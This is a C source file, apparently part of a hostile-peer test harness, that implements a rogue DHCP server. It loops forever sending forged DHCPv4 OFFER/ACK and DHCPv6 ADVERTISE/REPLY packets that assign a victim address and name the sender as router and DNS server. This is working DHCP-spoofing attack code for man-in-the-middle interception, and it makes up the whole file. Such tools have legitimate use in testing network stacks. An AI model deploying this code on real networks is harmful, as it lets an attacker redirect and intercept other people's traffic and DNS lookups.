/* SPDX-License-Identifier: MIT */
/*
 * A rogue DHCP server: DHCPv4 OFFER and ACK from UDP port 67 (broadcast,
 * for the host's MAC, host_mac=) handing out the victim's address
 * (victim_ip=) with the attacker (ip=) as router and DNS, and DHCPv6
 * ADVERTISE and REPLY from port 547 to all nodes. All from the
 * attacker's own MAC and address. Forever, paced.
 */
#include "hostile.h"

static uint8_t f[400];

/* A DHCPv4 option of one 32-bit value; returns the next option's place. */
static uint8_t *option32(uint8_t *o, uint8_t code, uint32_t v)
{
	o[0] = code;
	o[1] = 4;
	hostile_put32(o + 2, v);
	return o + 6;
}

static void dhcp4(const uint8_t *mac, const uint8_t *client, uint32_t me,
		  uint32_t vip, uint8_t type)
{
	static const uint8_t cookie[4] = { 0x63, 0x82, 0x53, 0x63 };
	unsigned int len = 236 + 4 + 3 + 6 + 6 + 6 + 6 + 6 + 1;
	uint8_t *ip, *p, *o;

	memset(f, 0, sizeof(f));
	ip = hostile_eth(f, hostile_bcast, mac, ETH_P_IP);
	p = hostile_udp(hostile_ipv4(ip, 17, me, 0xffffffffU, 8 + len), 67,
			68, len);
	p[0] = 2;			/* BOOTREPLY */
	p[1] = 1;
	p[2] = 6;
	hostile_put32(p + 4, 0x0badcafe);
	hostile_put32(p + 16, vip);	/* yiaddr */
	hostile_put32(p + 20, me);	/* siaddr */
	memcpy(p + 28, client, 6);
	o = p + 236;
	memcpy(o, cookie, 4);
	o += 4;
	o[0] = 53;			/* message type */
	o[1] = 1;
	o[2] = type;
	o = option32(o + 3, 54, me);	/* server identifier */
	o = option32(o, 1, 0xffffff00U);	/* subnet mask */
	o = option32(o, 3, me);		/* router */
	o = option32(o, 6, me);		/* DNS server */
	o = option32(o, 51, 86400);	/* lease time */
	*o = 255;
	hostile_put16(p - 2, hostile_csum4_udp(ip, 8 + len));
	hostile_send(f, 14 + 20 + 8 + len);
}

static void dhcp6(const uint8_t *mac, uint8_t type)
{
	unsigned int len = 4 + 4 + 10;
	uint8_t src[16], *ip6, *p;

	hostile_ll6(src, mac);
	memset(f, 0, sizeof(f));
	ip6 = hostile_eth(f, hostile_allnodes_mac, mac, ETH_P_IPV6);
	p = hostile_udp(hostile_ipv6(ip6, 17, 255, src, hostile_allnodes,
				     8 + len), 547, 546, len);
	p[0] = type;
	p[1] = 0xba;			/* transaction id */
	p[2] = 0xd6;
	p[3] = 0x01;
	hostile_put16(p + 4, 2);	/* server identifier: DUID-LL */
	hostile_put16(p + 6, 10);
	hostile_put16(p + 8, 3);
	hostile_put16(p + 10, 1);
	memcpy(p + 12, mac, 6);
	hostile_put16(p - 2, hostile_csum6(ip6, 17, 8 + len));
	hostile_send(f, 14 + 40 + 8 + len);
}

int main(void)
{
	uint32_t vip = hostile_ip_arg("victim_ip", 0x0a000002);
	uint32_t me = hostile_ip_arg("ip", 0x0a000063);
	uint8_t mac[6], host[6];
	unsigned long round;

	hostile_own_mac(mac);
	hostile_mac_arg("host_mac", host);
	printf("dhcp: serving\n");
	for (round = 1;; round++) {
		dhcp4(mac, host, me, vip, 2);	/* OFFER */
		dhcp4(mac, host, me, vip, 5);	/* ACK */
		dhcp6(mac, 2);			/* ADVERTISE */
		dhcp6(mac, 7);			/* REPLY */
		hostile_pace("dhcp", round, 20000);
	}
}
